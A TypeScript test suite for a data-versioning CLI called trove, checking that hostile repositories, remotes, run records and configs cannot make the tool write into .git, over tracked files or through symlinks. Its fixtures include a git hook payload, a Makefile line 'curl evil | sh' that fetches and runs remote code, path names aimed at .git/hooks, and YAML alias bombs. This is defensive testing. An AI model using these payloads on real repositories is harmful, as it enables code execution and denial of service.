/**
 * Issue 8, section 1: a repository, remote or run record that someone else controls can never make
 * trove write outside the data a pointer owns. Every case builds the hostile input by writing the
 * files directly (pointers as text, trees as cache or remote objects with correct oids, commits with
 * real git), runs the real CLI, and asserts: exit ≠ 0 (or a safe success), the error names the file
 * and field, and nothing under the repo (incl. .git and the cache) or the sentinel folder beside it changed.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, promises as fsp, writeFileSync } from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { newRunRecord, serializeRunRecord } from '../../src/core/runs/record.js';
import { serializeTree, type TreeEntry } from '../../src/core/tree.js';
import { git, newLooseRepo, newRepo, sh, trove, write, type RunResult } from '../helpers/repo.js';
import { worldAround } from '../helpers/snapshot.js';

type Spec = { [name: string]: string | Spec };

const hex = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

/**
 * Where hand-written objects go: a folder remote keeps every object in `objects/sha256` (wave 1's
 * remote layout); a cache keeps blobs there and trees in `trees/sha256`, with its layout file (v2,
 * src/core/store/layout.ts), so that the case tests the hostile input and not a layout migration.
 */
interface Roots { blobs: string; trees: string }

/** Writes bytes as an object under `root`. */
async function putObject(root: string | Roots, bytes: Buffer | string, kind: 'blob' | 'tree' = 'blob'): Promise<string> {
  const h = hex(bytes);
  const dir = typeof root === 'string' ? root : kind === 'tree' ? root.trees : root.blobs;
  const p = path.join(dir, h.slice(0, 2), h.slice(2));
  await fsp.mkdir(path.dirname(p), { recursive: true });
  await fsp.writeFile(p, bytes, { mode: 0o444 }).catch((e) => { if (e.code !== 'EACCES') throw e; });
  return 'sha256:' + h;
}

/** Builds a folder as tree objects (any names, hostile ones included); returns the root tree. */
async function putTree(root: string | Roots, spec: Spec): Promise<{ oid: string; size: number; files: number }> {
  const entries: TreeEntry[] = [];
  let size = 0;
  let files = 0;
  for (const [name, v] of Object.entries(spec)) {
    if (typeof v === 'string') {
      entries.push({ name, type: 'file', oid: (await putObject(root, v)) as TreeEntry['oid'], size: v.length });
      size += v.length;
      files++;
    } else {
      const t = await putTree(root, v);
      entries.push({ name, type: 'dir', oid: t.oid as TreeEntry['oid'], size: t.size, files: t.files });
      size += t.size;
      files += t.files;
    }
  }
  return { oid: await putObject(root, serializeTree(entries), 'tree'), size, files };
}

/** A repo's cache, in the current layout (the layout file is written here, before the snapshot). */
const cacheObjects = (repo: string): Roots => {
  const cache = path.join(repo, '.trove/cache');
  mkdirSync(cache, { recursive: true });
  writeFileSync(path.join(cache, 'layout'), '{"format":"trove-cache","version":2}\n');
  return { blobs: path.join(cache, 'objects/sha256'), trees: path.join(cache, 'trees/sha256') };
};

function filePointer(p: string, oid: string, size: number): string {
  return `version: 1\npath: ${JSON.stringify(p)}\ntype: file\noid: ${oid}\nsize: ${size}\n`;
}
function dirPointer(p: string, t: { oid: string; size: number; files: number }): string {
  return `version: 1\npath: ${JSON.stringify(p)}\ntype: dir\noid: ${t.oid}\nsize: ${t.size}\nfiles: ${t.files}\n`;
}

/** Refused with a clear error: exit 1 (or 2 for a bad command line), the file (and field) named, no stack trace. */
function expectRefused(r: RunResult, ...named: string[]): void {
  expect(r.code, r.stdout + r.stderr).not.toBe(0);
  expect(r.stderr).toMatch(/^error: /m);
  for (const n of named) expect(r.stderr).toContain(n);
  expect(r.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m); // no stack trace
  expect(r.stderr).not.toMatch(/please report|internal error/i);
}

async function commitAll(repo: string, msg: string): Promise<void> {
  await git(repo, 'add', '-A');
  await git(repo, 'commit', '-q', '--allow-empty', '-m', msg);
}

const HOOK = '#!/bin/sh\necho pwned > /tmp/trove-pwned\n';

describe('hostile: never into .git or .trove', () => {
  it('working pointers whose path is .git/.trove (any case, folded names, any depth): checkout and status refuse, nothing written', async () => {
    const repo = await newRepo('repo');
    const oid = await putObject(cacheObjects(repo), HOOK);
    await commitAll(repo, 'base');
    const w = await worldAround(repo);
    const paths = ['.git/hooks/pre-commit', '.GIT/config', '.git./config', 'git~1/config', '.g\u200cit/config', 'sub/.git/config',
      '.trove/config', '.trove/config.local', '.TROVE/cache/objects/x'];
    for (const p of paths) {
      await write(repo, 'evil.trove', filePointer(p, oid, HOOK.length));
      const before = await w.snap();
      expectRefused(await trove(repo, 'checkout'), 'evil.trove', "field 'path'");
      expectRefused(await trove(repo, 'checkout', '--force', 'evil'), 'evil.trove', "field 'path'");
      await w.expectUnchanged(before);
    }
    // and a pointer that lives in a sub-folder and names .git beside it
    await fsp.rm(path.join(repo, 'evil.trove'));
    await write(repo, 'sub/x.trove', filePointer('.git', oid, HOOK.length));
    const before = await w.snap();
    expectRefused(await trove(repo, 'status'), 'sub/x.trove', "field 'path'");
    await w.expectUnchanged(before);
    expect(existsSync(path.join(repo, 'sub/.git'))).toBe(false);
  });

  it('a committed pointer at an old revision naming .git/hooks: `checkout <rev> -- path` refuses, nothing written', async () => {
    const repo = await newRepo('repo');
    const oid = await putObject(cacheObjects(repo), HOOK);
    await write(repo, 'evil.trove', filePointer('.git/hooks/pre-commit', oid, HOOK.length));
    await commitAll(repo, 'hostile');
    await git(repo, 'rm', '-q', 'evil.trove');
    await commitAll(repo, 'gone');
    const w = await worldAround(repo);
    const before = await w.snap();
    expectRefused(await trove(repo, 'checkout', 'HEAD~1', '--', 'evil'), 'evil.trove', "field 'path'");
    expectRefused(await trove(repo, 'checkout', 'HEAD~1', '--', 'evil.trove'), 'evil.trove');
    await w.expectUnchanged(before);
    expect(existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false);
  });

  it('a tree with a .git entry anywhere (any variant) refuses the whole checkout before anything is written', async () => {
    const repo = await newRepo('repo');
    const good = await putObject(cacheObjects(repo), 'good data\n');
    await write(repo, 'good.bin.trove', filePointer('good.bin', good, 10)); // its file is absent: checkout would write it
    for (const name of ['.git', '.GIT', '.git ', 'GIT~1', '.gi\u200dt', '.trove', 'x.trove']) {
      const t = await putTree(cacheObjects(repo), { 'a.csv': 'a\n', sub: { deeper: { [name]: { hooks: { 'pre-commit': HOOK } } } } });
      await write(repo, 'data.trove', dirPointer('data', t));
      await commitAll(repo, `tree with ${name}`);
      const w = await worldAround(repo);
      const before = await w.snap();
      const r = await trove(repo, 'checkout');
      expectRefused(r, 'data/sub/deeper', 'hostile tree');
      await w.expectUnchanged(before);
      expect(existsSync(path.join(repo, 'data'))).toBe(false);
      expect(existsSync(path.join(repo, 'good.bin'))).toBe(false); // the whole checkout was refused
      await fsp.rm(w.sentinel, { recursive: true });
    }
  });

  it('a hostile tree arriving by `trove pull` from a folder remote: refused, the workspace, .git and sentinel unchanged', async () => {
    const repo = await newRepo('repo');
    const remote = path.join(path.dirname(repo), 'remote');
    const t = await putTree(path.join(remote, 'objects/sha256'), { ok: 'ok\n', '.Git': { config: '[core]\n\thooksPath = /tmp\n' } });
    await write(repo, 'data.trove', dirPointer('data', t));
    expect((await trove(repo, 'remote', 'add', 'origin', '../remote')).code).toBe(0);
    await commitAll(repo, 'clone of a hostile repo');
    // the cache may receive the (verified) tree objects it must read to see the attack; nothing else changes
    const w = await worldAround(repo, { skip: (label, rel) => label === 'repo' && rel.startsWith('.trove/cache') });
    const before = await w.snap();
    expectRefused(await trove(repo, 'pull'), 'data', 'hostile tree');
    await w.expectUnchanged(before);
    expect(existsSync(path.join(repo, 'data'))).toBe(false);
  });
});

describe('hostile: run records and the command line', () => {
  it('a run record whose output path is .git/hooks or a pointer: `checkout --run` refuses naming the record and field', async () => {
    const repo = await newRepo('repo');
    const oid = await putObject(cacheObjects(repo), HOOK);
    await commitAll(repo, 'base');
    const w = await worldAround(repo, { skip: (label, rel) => label === 'repo' && rel.startsWith('.trove/index.db') });
    for (const p of ['.git/hooks/pre-commit', '.GIT./config', 'x.trove']) {
      const rec = newRunRecord({ command: ['train'], status: 'FINISHED' });
      rec.end = rec.start;
      rec.exitCode = 0;
      rec.outputs = [{ path: p, oid, type: 'file', size: HOOK.length }];
      await write(repo, `.trove/runs/${rec.id}.json`, serializeRunRecord(rec));
      const before = await w.snap();
      expectRefused(await trove(repo, 'checkout', '--run', rec.id), `${rec.id}.json`, 'outputs');
      await w.expectUnchanged(before);
      await fsp.rm(path.join(repo, `.trove/runs/${rec.id}.json`));
    }
  });

  it('command-line paths into .git/.trove (any case) or over a pointer: add and move refuse', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'd.bin', 'd\n');
    expect((await trove(repo, 'add', 'd.bin')).code).toBe(0);
    await commitAll(repo, 'base');
    // (git itself refuses to commit these names)
    await write(repo, '.GIT/x', 'x\n');
    await write(repo, 'sub/git~1/y', 'y\n');
    const w = await worldAround(repo);
    const before = await w.snap();
    expectRefused(await trove(repo, 'add', '.GIT/x'), '.GIT');
    expectRefused(await trove(repo, 'add', 'sub/git~1/y'), 'git~1');
    expectRefused(await trove(repo, 'move', 'd.bin', '.Git/hooks/pre-commit'), '.Git');
    expectRefused(await trove(repo, 'move', 'd.bin', 'other.trove'), 'other.trove');
    await w.expectUnchanged(before);
  });
});

describe('hostile: never over a pointer file', () => {
  it('`path: other.trove` and `path: data.trove` (the pointer itself) are refused naming the file and field', async () => {
    const repo = await newRepo('repo');
    const oid = await putObject(cacheObjects(repo), 'x\n');
    await write(repo, 'other.trove', filePointer('other', oid, 2));
    await commitAll(repo, 'base');
    const w = await worldAround(repo);
    for (const [file, p] of [['evil.trove', 'other.trove'], ['data.trove', 'data.trove'], ['e2.trove', 'OTHER.TROVE']] as const) {
      await write(repo, file, filePointer(p, oid, 2));
      const before = await w.snap();
      expectRefused(await trove(repo, 'checkout', '--force'), file, "field 'path'");
      await w.expectUnchanged(before);
      await fsp.rm(path.join(repo, file));
    }
  });
});

describe('hostile: never over a file that git tracks', () => {
  it('`path: Makefile` (committed in git): checkout --force refuses naming the pointer and field', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'Makefile', 'all:\n\techo ok\n');
    const evil = await putObject(cacheObjects(repo), 'all:\n\tcurl evil | sh\n');
    await putObject(cacheObjects(repo), 'all:\n\techo ok\n'); // the committed content is "in the cache": no conflict to stop it
    await write(repo, 'evil.trove', filePointer('Makefile', evil, 22));
    await commitAll(repo, 'base');
    const w = await worldAround(repo);
    const before = await w.snap();
    expectRefused(await trove(repo, 'checkout', '--force'), 'evil.trove', "field 'path'", 'git tracks');
    await w.expectUnchanged(before);
  });
});

describe('hostile: never through a symlink', () => {
  it('remove --purge and move of a pointer whose path goes through a link out of the repo: refused, the target untouched', async () => {
    const repo = await newRepo('repo');
    const oid = await putObject(cacheObjects(repo), 'sentinel: must never change\n');
    const w = await worldAround(repo);
    await fsp.symlink('../sentinel', path.join(repo, 'out'));
    await write(repo, 'evil.trove', filePointer('out/keep.txt', oid, 28));
    await commitAll(repo, 'links');
    const before = await w.snap();
    expectRefused(await trove(repo, 'remove', '--purge', '--force', 'out/keep.txt'), 'out', 'symbolic link');
    expectRefused(await trove(repo, 'move', 'out/keep.txt', 'moved.txt'), 'out', 'symbolic link');
    await w.expectUnchanged(before);
  });

  it('a tracked path whose parent is a link (out of the repo, or inside it) is refused, naming the link', async () => {
    const repo = await newRepo('repo');
    const oid = await putObject(cacheObjects(repo), HOOK);
    const w = await worldAround(repo);
    await fsp.symlink('../sentinel', path.join(repo, 'out'));
    await fsp.mkdir(path.join(repo, 'real'));
    await fsp.symlink('real', path.join(repo, 'inlink'));
    await write(repo, 'evil.trove', filePointer('out/hooks/pre-commit', oid, HOOK.length));
    await commitAll(repo, 'links');
    let before = await w.snap();
    const r = await trove(repo, 'checkout', '--force');
    expectRefused(r, 'evil.trove', 'out');
    expect(r.stderr).toMatch(/symbolic link/);
    await w.expectUnchanged(before);
    await write(repo, 'evil.trove', filePointer('inlink/f.bin', oid, HOOK.length));
    await commitAll(repo, 'inner link');
    before = await w.snap();
    expectRefused(await trove(repo, 'checkout', '--force'), 'evil.trove', 'inlink');
    await w.expectUnchanged(before);
  });

  it('`add dirlink/file` and `add` through a link out of the repo are refused before the cache is written', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'real/file.bin', 'inside\n');
    await fsp.symlink('real', path.join(repo, 'dirlink'));
    await fsp.symlink('../sentinel', path.join(repo, 'out'));
    await commitAll(repo, 'links');
    const w = await worldAround(repo);
    const before = await w.snap();
    expectRefused(await trove(repo, 'add', 'dirlink/file.bin'), 'dirlink');
    expectRefused(await trove(repo, 'add', 'out/keep.txt'), 'out');
    await w.expectUnchanged(before);
    expect(existsSync(path.join(repo, '.trove/cache/objects'))).toBe(false);
  });

  it('`run --out` through a linked folder or outside the repo: refused before the command runs, nothing written', async () => {
    const repo = await newRepo('repo');
    await fsp.symlink('../sentinel', path.join(repo, 'outlink'));
    await commitAll(repo, 'links');
    const w = await worldAround(repo);
    const before = await w.snap();
    for (const out of ['outlink/model.bin', '../sentinel/model.bin', '.git/model.bin', 'x.trove']) {
      const r = await trove(repo, 'run', '-o', out, '--', 'sh', '-c', 'echo ran > ran.txt');
      expectRefused(r, out.startsWith('../') ? 'outside' : out === 'x.trove' ? 'pointer' : out.split('/')[0]!);
    }
    await w.expectUnchanged(before);
    expect(existsSync(path.join(repo, 'ran.txt'))).toBe(false);
  });

  it('`log-artifact` outside the repo or through a linked folder: refused, the cache untouched', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'real/model.bin', 'weights\n');
    await fsp.symlink('../sentinel', path.join(repo, 'outlink'));
    await fsp.symlink('real', path.join(repo, 'inlink'));
    await commitAll(repo, 'links');
    const w = await worldAround(repo, { skip: (label, rel) => label === 'repo' && rel.startsWith('.trove/runs') });
    const before = await w.snap();
    const bin = path.resolve('bin/trove.js');
    const r = await trove(repo, 'run', '--', 'sh', '-c',
      `node ${bin} log-artifact ../sentinel/keep.txt 2> e1.txt; node ${bin} log-artifact outlink/keep.txt 2> e2.txt; ` +
      `node ${bin} log-artifact inlink/model.bin 2> e3.txt; mv e1.txt e2.txt e3.txt real/; exit 3`);
    expect(r.code).not.toBe(0);
    const e1 = await fsp.readFile(path.join(repo, 'real/e1.txt'), 'utf8');
    const e2 = await fsp.readFile(path.join(repo, 'real/e2.txt'), 'utf8');
    expect(e1).toMatch(/outside the repository/);
    expect(e2).toMatch(/outlink.*symbolic link|symbolic link.*outlink/);
    expect(await fsp.readFile(path.join(repo, 'real/e3.txt'), 'utf8')).toMatch(/inlink is a symbolic link/);
    for (const e of ['e1', 'e2', 'e3']) await fsp.rm(path.join(repo, `real/${e}.txt`));
    await w.expectUnchanged(before);
    // neither the sentinel's bytes nor the linked model became a cache object
    for (const f of [path.join(w.sentinel, 'keep.txt'), path.join(repo, 'real/model.bin')]) {
      const oid = hex(await fsp.readFile(f));
      expect(existsSync(path.join(cacheObjects(repo).blobs, oid.slice(0, 2), oid.slice(2)))).toBe(false);
    }
  });
});

describe('hostile: remotes that are the filesystem root, the repo or a parent of it', () => {
  it('`remote add` and `remote modify` refuse them with the reason; config unchanged', async () => {
    const repo = await newRepo('repo');
    await fsp.symlink('.', path.join(repo, 'selflink'));
    expect((await trove(repo, 'remote', 'add', 'origin', '../remote')).code).toBe(0);
    await commitAll(repo, 'remote');
    const w = await worldAround(repo);
    const before = await w.snap();
    const cases: [string, RegExp][] = [
      ['/', /filesystem root/], ['file:///', /filesystem root/], ['..', /holds the repository/], ['.', /repository itself/],
      [repo, /repository itself/], ['selflink', /repository itself/], ['.git/objs', /\.git/], ['.trove/remote', /\.trove/],
      [`file://${path.dirname(repo)}`, /holds the repository/],
    ];
    for (const [url, why] of cases) {
      const a = await trove(repo, 'remote', 'add', 'evil', url);
      expectRefused(a, 'remote "evil"');
      expect(a.stderr).toMatch(why);
      const m = await trove(repo, 'remote', 'modify', 'origin', 'url', url);
      expectRefused(m, 'remote "origin"');
      expect(m.stderr).toMatch(why);
    }
    await w.expectUnchanged(before);
  });

  it('a committed config naming `/` as a remote: push and gc --remote refuse before touching it', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'd.bin', 'data\n');
    expect((await trove(repo, 'add', 'd.bin')).code).toBe(0);
    await write(repo, '.trove/config', `core:\n  remote: evil\nremotes:\n  evil:\n    url: ${path.dirname(repo)}\n`);
    await commitAll(repo, 'hostile config');
    const w = await worldAround(repo);
    const before = await w.snap();
    expectRefused(await trove(repo, 'push'), 'remote "evil"', 'holds the repository');
    expectRefused(await trove(repo, 'gc', '--remote', 'evil', '--force'), 'remote "evil"');
    await w.expectUnchanged(before);
  });
});

describe('hostile: a committed cache.dir that points into .git, at / or above the repo', () => {
  it('every command refuses it (CONFIG naming cache.dir) before anything is written', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'd.bin', 'd\n');
    await commitAll(repo, 'base');
    const w = await worldAround(repo);
    for (const dir of ['.git/objects', '.GIT.', '/', '..', '.']) {
      await write(repo, '.trove/config', `cache:\n  dir: ${JSON.stringify(dir)}\n`);
      const before = await w.snap();
      expectRefused(await trove(repo, 'add', 'd.bin'), 'cache.dir');
      await w.expectUnchanged(before);
    }
  });
});

describe('hostile: FIFOs, sockets and devices never block', () => {
  const mkfifo = (p: string) => execFileSync('mkfifo', [p]);

  it('a FIFO where a cache object should be: checkout names it and writes nothing; fsck reports and quarantines it', async () => {
    const repo = await newLooseRepo('repo'); // a FIFO in place of a loose object file
    await write(repo, 'f.bin', 'content\n');
    expect((await trove(repo, 'add', 'f.bin')).code).toBe(0);
    await commitAll(repo, 'f');
    const h = hex('content\n');
    const obj = path.join(cacheObjects(repo).blobs, h.slice(0, 2), h.slice(2));
    await fsp.rm(obj, { force: true });
    mkfifo(obj);
    await fsp.rm(path.join(repo, 'f.bin'));
    const w = await worldAround(repo);
    const before = await w.snap();
    expectRefused(await trove(repo, 'checkout'), h, 'not a regular file');
    await w.expectUnchanged(before);
    const f = await trove(repo, 'fsck');
    expect(f.code).toBe(1);
    expect(f.stdout + f.stderr).toContain(`corrupt: sha256:${h}`);
    expect(existsSync(obj)).toBe(false);
  });

  it('a FIFO in a tracked folder, or named like a pointer: status and add name it and do not block', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'data/a.csv', 'a\n');
    expect((await trove(repo, 'add', 'data')).code).toBe(0);
    await commitAll(repo, 'data');
    mkfifo(path.join(repo, 'data/pipe'));
    const w = await worldAround(repo);
    const before = await w.snap();
    expectRefused(await trove(repo, 'status'), 'data/pipe', 'fifo');
    expectRefused(await trove(repo, 'add', 'data'), 'data/pipe');
    await w.expectUnchanged(before);
    await fsp.rm(path.join(repo, 'data/pipe'));
    // a unix socket takes the same path
    const server = net.createServer();
    await new Promise<void>((resolve) => server.listen(path.join(repo, 'data/sock'), resolve));
    try {
      const b1 = await w.snap();
      expectRefused(await trove(repo, 'status'), 'data/sock', 'socket');
      await w.expectUnchanged(b1);
    } finally {
      await new Promise((resolve) => server.close(resolve));
      await fsp.rm(path.join(repo, 'data/sock'), { force: true });
    }
    // a FIFO named like a pointer: git never lists it, so trove never opens it (a safe success)
    mkfifo(path.join(repo, 'p.trove'));
    const b2 = await w.snap();
    const s = await trove(repo, 'status');
    expect(s.code, s.stderr).toBe(0);
    expect(s.stdout).toContain('1 tracked path');
    expectRefused(await trove(repo, 'checkout', 'p'), 'p');
    await w.expectUnchanged(b2);
  });

  it('a committed .trove/config or pointer that is a link to /dev/zero: refused by name, nothing blocks or is read', async () => {
    const repo = await newRepo('repo');
    await fsp.symlink('/dev/zero', path.join(repo, 'z.trove'));
    await commitAll(repo, 'pointer link');
    const w = await worldAround(repo);
    let before = await w.snap();
    expectRefused(await trove(repo, 'status'), 'z.trove', 'symbolic link');
    await w.expectUnchanged(before);
    await fsp.rm(path.join(repo, 'z.trove'));
    await fsp.rm(path.join(repo, '.trove/config'));
    await fsp.symlink('/dev/zero', path.join(repo, '.trove/config'));
    await commitAll(repo, 'config link');
    before = await w.snap();
    expectRefused(await trove(repo, 'status'), '.trove/config', 'not a regular file');
    await w.expectUnchanged(before);
  });

  it('a FIFO where a folder remote\'s object should be: pull names it and does not block', async () => {
    const repo = await newRepo('repo');
    const remote = path.join(path.dirname(repo), 'remote');
    const h = hex('remote data\n');
    await fsp.mkdir(path.join(remote, 'objects/sha256', h.slice(0, 2)), { recursive: true });
    mkfifo(path.join(remote, 'objects/sha256', h.slice(0, 2), h.slice(2)));
    await write(repo, 'r.bin.trove', filePointer('r.bin', 'sha256:' + h, 12));
    expect((await trove(repo, 'remote', 'add', 'origin', '../remote')).code).toBe(0);
    await commitAll(repo, 'r');
    const w = await worldAround(repo);
    const before = await w.snap();
    const r = await trove(repo, 'pull');
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).toMatch(/not a regular file/);
    expect(r.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
    await w.expectUnchanged(before);
  });
});

describe('hostile: YAML resource attacks', () => {
  const bomb = (() => {
    let b = 'a: &a [x, x, x, x, x, x, x, x, x]\n';
    for (let i = 1; i < 9; i++) b += `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill('*' + String.fromCharCode(96 + i)).join(', ')}]\n`;
    return b;
  })();
  const deep = 'x: ' + '['.repeat(20000) + ']'.repeat(20000) + '\n';

  it('pointers with an alias bomb, deep nesting or a huge scalar: BAD_POINTER naming the file, no stack trace', async () => {
    const repo = await newRepo('repo');
    await commitAll(repo, 'base');
    const w = await worldAround(repo);
    const ptr = `version: 1\npath: data\ntype: file\noid: sha256:${'a'.repeat(64)}\nsize: 1\n`;
    for (const body of [ptr + bomb, ptr + deep, ptr + 'y: ' + 'z'.repeat(200_000) + '\n']) {
      await write(repo, 'data.trove', body);
      const before = await w.snap();
      expectRefused(await trove(repo, 'status'), 'data.trove');
      expectRefused(await trove(repo, 'checkout'), 'data.trove');
      await w.expectUnchanged(before);
    }
  });

  it('a config with an alias bomb or deep nesting: CONFIG naming the file, nothing written', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'd.bin', 'd\n');
    await commitAll(repo, 'base');
    const w = await worldAround(repo);
    for (const [file, body] of [['.trove/config', bomb], ['.trove/config.local', deep], ['.trove/config', 'a: ' + 'b'.repeat(2 << 20)]] as const) {
      const keep = await fsp.readFile(path.join(repo, '.trove/config'), 'utf8');
      await write(repo, file, body);
      const before = await w.snap();
      expectRefused(await trove(repo, 'add', 'd.bin'), file);
      expectRefused(await trove(repo, 'status'), file);
      await w.expectUnchanged(before);
      await write(repo, '.trove/config', keep);
      await fsp.rm(path.join(repo, '.trove/config.local'), { force: true });
    }
  });

  it('a hostile pointer at an old revision: log, diff and gc report it by name, no stack trace, nothing deleted', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'data/a.csv', 'a\n');
    expect((await trove(repo, 'add', 'data')).code).toBe(0);
    await commitAll(repo, 'v1');
    const good = await fsp.readFile(path.join(repo, 'data.trove'), 'utf8');
    await write(repo, 'data.trove', good + bomb.replace(/^a:/, 'zz:'));
    await commitAll(repo, 'hostile');
    await write(repo, 'data.trove', good);
    await commitAll(repo, 'fixed');
    const w = await worldAround(repo);
    const before = await w.snap();
    const l = await trove(repo, 'log', 'data');
    expect(l.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
    if (l.code !== 0) expect(l.stderr).toContain('data.trove');
    expectRefused(await trove(repo, 'diff', 'HEAD~2', 'HEAD~1'), 'data.trove');
    const g = await trove(repo, 'gc', '--all-commits', '--force', '--grace', '0');
    expect(g.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
    expect(g.stdout + g.stderr).toContain('data.trove');
    await w.expectUnchanged(before);
  });

  it('a run record that nests deep or is not JSON: runs list reports it by name, no stack trace', async () => {
    const repo = await newRepo('repo');
    await commitAll(repo, 'base');
    const id = '01JD3Z8Q4X0000000000000000';
    await write(repo, `.trove/runs/${id}.json`, '{"schema":1,"id":"' + id + '","x":' + '['.repeat(200000) + ']'.repeat(200000) + '}');
    const w = await worldAround(repo, { skip: (label, rel) => label === 'repo' && rel.startsWith('.trove/index.db') });
    const before = await w.snap();
    const r = await trove(repo, 'runs', 'show', id);
    expectRefused(r, `${id}.json`);
    const l = await trove(repo, 'runs', 'list');
    expect(l.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
    await w.expectUnchanged(before);
  });
});

describe('hostile: .gitignore lines for special names', () => {
  it('names with # ! * ? [ \\ and leading/trailing spaces: git ignores exactly that path', async () => {
    const repo = await newRepo('repo');
    const names = ['#hash', '!bang', 'st*ar', 'q?', '[br]', ' lead', 'trail  '];
    for (const n of names) await write(repo, n, `data of ${n}\n`);
    // siblings that the unescaped patterns would also match
    const decoys = ['stXar', 'qX', 'b', 'r', 'backslash', 'lead', 'trail', 'hash', 'bang'];
    for (const d of decoys) await write(repo, d, 'decoy\n');
    const r = await trove(repo, 'add', ...names);
    expect(r.code, r.stderr).toBe(0);
    for (const n of names) {
      const c = await sh('git', ['check-ignore', '--no-index', '-q', '--', n], repo);
      expect(c.code, `git should ignore ${JSON.stringify(n)}`).toBe(0);
    }
    for (const d of decoys) {
      const c = await sh('git', ['check-ignore', '--no-index', '-q', '--', d], repo);
      expect(c.code, `git must not ignore ${JSON.stringify(d)}`).toBe(1);
    }
    // a backslash: a pointer cannot name it (refused clearly); the escaped line still means exactly that name to git
    await write(repo, 'back\\slash', 'x\n');
    expectRefused(await trove(repo, 'add', 'back\\slash'), 'backslash');
    expect(existsSync(path.join(repo, 'back\\slash.trove'))).toBe(false);
    const { gitignoreLineFor } = await import('../../src/core/gitignoreLine.js');
    await write(repo, 'sub/.gitignore', gitignoreLineFor('sub/back\\slash') + '\n');
    await write(repo, 'sub/back\\slash', 'x\n');
    await write(repo, 'sub/backslash', 'x\n');
    expect((await sh('git', ['check-ignore', '--no-index', '-q', '--', 'sub/back\\slash'], repo)).code).toBe(0);
    expect((await sh('git', ['check-ignore', '--no-index', '-q', '--', 'sub/backslash'], repo)).code).toBe(1);
    // and `remove` takes exactly those lines out again
    const rm = await trove(repo, 'remove', 'st*ar', 'trail  ');
    expect(rm.code, rm.stderr).toBe(0);
    expect((await sh('git', ['check-ignore', '--no-index', '-q', '--', 'st*ar'], repo)).code).toBe(1);
    expect((await sh('git', ['check-ignore', '--no-index', '-q', '--', '#hash'], repo)).code).toBe(0);
  });

  it('a name with a newline is refused clearly, nothing written (add, and a pointer that names one)', async () => {
    const repo = await newRepo('repo');
    await write(repo, 'bad\nname', 'x\n');
    await commitAll(repo, 'base');
    const w = await worldAround(repo);
    const before = await w.snap();
    expectRefused(await trove(repo, 'add', 'bad\nname'), 'line break');
    await w.expectUnchanged(before);
    const oid = await putObject(cacheObjects(repo), 'x\n');
    await write(repo, 'evil.trove', filePointer('a\n!*', oid, 2));
    const b2 = await w.snap();
    expectRefused(await trove(repo, 'checkout', '--force'), 'evil.trove', 'line break');
    await w.expectUnchanged(b2);
  });
});
